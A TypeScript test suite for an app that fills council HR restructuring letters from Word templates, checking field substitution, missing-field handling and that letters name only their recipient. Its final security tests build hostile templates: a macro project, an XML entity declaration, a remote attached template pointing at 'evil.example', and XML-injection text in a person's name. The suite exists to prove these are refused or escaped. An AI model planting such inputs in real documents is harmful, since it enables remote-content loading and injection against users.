import { Document, Header, Packer, Paragraph, Table, TableCell, TableRow, TextRun } from 'docx';
import JSZip from 'jszip';
import { describe, expect, it } from 'vitest';
import { type LetterFile, type LettersRequest, planLetters, writeLetters } from '../../../electron/letters/make.ts';
import { buildSample } from '../../../electron/samples/samples.ts';
import type { Post } from '../../../shared/model/records.ts';
import { parseSettings, type Settings } from '../../../shared/model/settings.ts';
import { type DocumentState, structureByName } from '../../../shared/model/state.ts';
import { LETTER_KINDS } from '../../../shared/report/papers/letterFields.ts';

/** Words of a council's template; Word may split a field over runs, so this one does. */
const own = (paragraphs: readonly (string | Table)[], head = '') =>
  Packer.toBuffer(
    new Document({
      creator: 'Somebody at the council',
      sections: [
        {
          headers: { default: new Header({ children: [new Paragraph(head)] }) },
          children: paragraphs.map((each) =>
            typeof each === 'string'
              ? new Paragraph({ children: (each.match(/.{1,7}/g) ?? []).map((text) => new TextRun(text)) })
              : each,
          ),
        },
      ],
    }),
  );

const row = (...cells: string[]) =>
  new TableRow({ children: cells.map((cell) => new TableCell({ children: [new Paragraph(cell)] })) });

const SETTINGS = {
  implementationDate: '2027-04-01',
  council: { name: 'Example Borough Council' },
  pools: [
    {
      pool: 'Brokerage',
      criteria: [
        { name: 'Interview', weight: '80' },
        { name: 'Expression of interest', weight: '20' },
      ],
      sequence: ['Lead first, then officers'],
      ifNobody: 'Advertised in the council',
    },
    {
      pool: 'Assessment Officer',
      criteria: [{ name: 'Interview', weight: '100' }],
      sequence: ['Once'],
      ifNobody: 'Advertised',
    },
  ],
  consultation: { dates: { begins: '2026-11-02', ends: '2026-12-14' } },
  staffPapers: { employer: { contact: 'HR for Adults', email: 'hr@example.org' } },
};

function care(settings: object = SETTINGS): DocumentState {
  const sample = buildSample('adult-social-care');
  const parsed = parseSettings(settings);
  if (!sample.ok || !parsed.ok) throw new Error('no sample');
  const { document } = sample.value;
  sample.value.document = { ...document, settings: { ...document.settings, ...(parsed.value as Settings) } };
  return sample.value;
}

function request(state: DocumentState, fields: Partial<LettersRequest>): LettersRequest {
  const id = (name: string) => structureByName(state, name)?.record.id ?? '';
  return {
    from: id('Current'),
    to: id('Option A'),
    kind: 'own',
    oneFile: false,
    acceptMissing: false,
    date: '2026-12-01',
    ...fields,
  };
}

async function make(state: DocumentState, fields: Partial<LettersRequest>) {
  const asked = request(state, fields);
  const plan = await planLetters(state, asked);
  if (!plan.ok) return { code: plan.refusal.code, message: plan.refusal.message, files: [], plan: null };
  const files = await writeLetters(plan.value, asked);
  return files.ok
    ? { code: '', message: '', files: files.value, plan: plan.value }
    : { code: files.refusal.code, message: files.refusal.message, files: [], plan: plan.value };
}

const part = async ({ bytes }: LetterFile, name = 'word/document.xml') =>
  (await (await JSZip.loadAsync(bytes)).file(name)?.async('string')) ?? '';
const words = async (file: LetterFile) => (await part(file)).replace(/<\/w:p>/g, '\n').replace(/<[^>]*>/g, '');

const template = async (paragraphs: readonly (string | Table)[], head = '') => ({
  bytes: new Uint8Array(await own(paragraphs, head)),
  name: 'Our letter.docx',
});

describe('letters and forms', () => {
  it('HR-2 fields are filled though Word splits them, whatever their letter case, and a table repeats its row', async () => {
    const table = new Table({ rows: [row('Post', 'Grade'), row('{{#places}}{{title}}', '{{level}}{{/places}}')] });
    const made = await make(care(), {
      kind: 'ring-fence',
      pool: 'Brokerage',
      template: await template(['Dear {{ Person }}, you are {{post}} in {{POOL}}. {{new-post}}', table]),
    });
    expect(made.files.map(({ people }) => people)).toEqual([['E1041'], ['E1042'], ['E1043'], ['E1044'], ['E1045']]);
    const text = await words(made.files[0] as LetterFile);
    expect(text).toContain('Dear E1041, you are Brokerage Officer in Brokerage. Decided by selection');
    expect(text).toMatch(/Brokerage Officer\nG6\nBrokerage and Payments Lead\nG8/);
    expect(made.files[0]?.fileName).toBe('Ring-fence and selection - E1041 - personal and confidential.docx');
  });

  it('HR-2 what is unknown or empty is listed by person and field, and nothing is written until that is accepted', async () => {
    const state = care();
    const letter = await template(['{{person}} {{favourite}} {{lastDay}}']);
    const refused = await make(state, { kind: 'at-risk', template: letter });
    expect(refused).toMatchObject({ code: 'fields-missing', files: [] });
    expect(refused.plan?.missing).toHaveLength(2 * (refused.plan?.letters.length ?? 0));
    expect(refused.plan?.missing.slice(0, 2)).toEqual([
      { person: 'E1025', field: 'favourite' },
      { person: 'E1025', field: 'lastDay' },
    ]);
    const accepted = await make(state, { kind: 'at-risk', template: letter, acceptMissing: true });
    expect(await words(accepted.files[0] as LetterFile)).not.toContain('{{');
  });

  it('HR-2 one file holds a letter for each, every one in a section of its own', async () => {
    const made = await make(care(), {
      kind: 'at-risk',
      oneFile: true,
      template: await template(['For {{person}}'], '{{council}}'),
    });
    expect(made.files).toHaveLength(1);
    const [file] = made.files as [LetterFile];
    expect(file.people).toHaveLength(11);
    const text = await words(file);
    for (const person of file.people) expect(text.match(new RegExp(`For ${person}`, 'g'))).toHaveLength(1);
    expect((await part(file)).match(/<w:sectPr/g)).toHaveLength(11);
    const personal = await make(care(), {
      kind: 'at-risk',
      oneFile: true,
      template: await template(['{{post}}'], '{{person}}'),
    });
    expect(personal.code).toBe('head-of-one');
  });

  it('HR-2 a list of people is a paper of its own, and never stands in a letter to one of them', async () => {
    const list = new Table({ rows: [row('{{#people}}{{person}}', '{{outcome}}{{/people}}')] });
    const made = await make(care(), { kind: 'at-risk', template: await template(['At risk, {{date}}', list]) });
    expect(made.files).toHaveLength(1);
    expect(await words(made.files[0] as LetterFile)).toMatch(/E1041\nDecided by selection/);
    const mixed = await make(care(), { kind: 'at-risk', template: await template(['Dear {{person}}', list]) });
    expect(mixed.code).toBe('lists-others');
  });

  it.each(LETTER_KINDS.filter((kind) => kind !== 'own'))(
    'HR-2 the shipped example of %s has every field filled from the sample, and names nobody else',
    async (kind) => {
      const made = await make(care(), { kind });
      expect([made.code, made.message]).toEqual(['', '']);
      for (const file of made.files.slice(0, 3)) {
        const text = await words(file);
        expect(text).not.toMatch(/\{\{|undefined|null|surplus/i);
        expect(await part(file, 'word/header1.xml')).toContain('not for publication');
        const named = new Set(text.match(/\bE1\d{3}\b/g));
        expect([...named]).toEqual(file.people);
      }
    },
  );

  it('IMPACT-12 nobody is told a place before selection, and an accepted offer tells its own', async () => {
    const before = await make(care(), { kind: 'ring-fence', template: await template(['{{newPost}}']) });
    for (const file of before.files) expect(await words(file)).toContain('Decided by selection');
    const personSteps = [{ person: 'E1041', offer: 'A45', answer: 'accepted' }];
    const after = await make(care({ ...SETTINGS, personSteps }), {
      kind: 'outcome',
      people: ['E1041'],
      template: await template(['{{newPost}}']),
    });
    expect(await words(after.files[0] as LetterFile)).toContain('Brokerage Officer');
  });

  it('HR-2 absent people are on the list', async () => {
    const state = care();
    const current = structureByName(state, 'Current') as
      | { byRef: Map<string, string>; posts: Map<string, Post> }
      | undefined;
    const id = current?.byRef.get('A45') ?? '';
    const post = current?.posts.get(id);
    if (!post) throw new Error('no post');
    const away = post.holders.map((holder, i) => (i === 0 ? { ...holder, absent: true as const } : holder));
    current?.posts.set(id, { ...post, holders: away });
    const { plan } = await make(state, { kind: 'at-risk', template: await template(['{{person}}']) });
    expect(plan?.letters.find(({ person }) => person === 'E1041')).toMatchObject({ absent: true });
  });
});

describe('templates of strangers', () => {
  const stranger = async (change: (zip: JSZip) => void) => {
    const zip = await JSZip.loadAsync(await own(['{{person}}']));
    change(zip);
    return make(care(), {
      kind: 'at-risk',
      template: { bytes: await zip.generateAsync({ type: 'uint8array' }), name: 'x.docx' },
    });
  };

  it('SEC attack: macros, entities, another kind of file and half a field are refused with a sentence', async () => {
    expect((await stranger((zip) => zip.file('word/vbaProject.bin', 'x'))).code).toBe('macros');
    expect((await stranger((zip) => zip.file('word/evil.xml', '<!DOCTYPE a [<!ENTITY b "c">]><a/>'))).code).toBe(
      'not-word',
    );
    expect((await stranger((zip) => zip.remove('word/document.xml'))).code).toBe('not-word');
    const plain = { bytes: new TextEncoder().encode('{{person}}'), name: 'x.docx' };
    expect((await make(care(), { template: plain })).code).toBe('not-word');
    expect((await make(care(), { template: await template(['{{#places}}{{title}}']) })).code).toBe('bad-field');
    expect((await make(care(), { template: await template(['No field.']) })).code).toBe('no-fields');
  });

  it('SEC attack: who wrote the template, comments and files elsewhere do not reach the reader', async () => {
    const made = await stranger((zip) => {
      zip.file('word/comments.xml', '<w:comments>secret remark</w:comments>');
      zip.file(
        'word/_rels/settings.xml.rels',
        '<Relationships><Relationship Id="rId1" Type="x/attachedTemplate" Target="http://evil.example/t.dotx" TargetMode="External"/></Relationships>',
      );
    });
    const zip = await JSZip.loadAsync((made.files[0] as LetterFile).bytes);
    const all = (await Promise.all(Object.values(zip.files).map((file) => file.async('string')))).join('');
    expect(all).not.toMatch(/secret remark|evil\.example|Somebody at the council/);
    expect(Object.keys(zip.files).filter((name) => /comments|docProps/.test(name))).toEqual([]);
  });

  it('SEC attack: a name that is a field or XML stays text', async () => {
    const state = care();
    state.people.set('E1041', {
      type: 'person',
      id: 'E1041',
      name: '<w:br/>{{pay}} & Co',
      age: null,
      ageOrOver: false,
      serviceYears: null,
      priority: false,
    });
    const made = await make(state, {
      kind: 'at-risk',
      people: ['E1041'],
      template: await template(['Dear {{person}}']),
    });
    expect(await part(made.files[0] as LetterFile)).toContain('&lt;w:br/&gt;{{pay}} &amp; Co');
  });
});
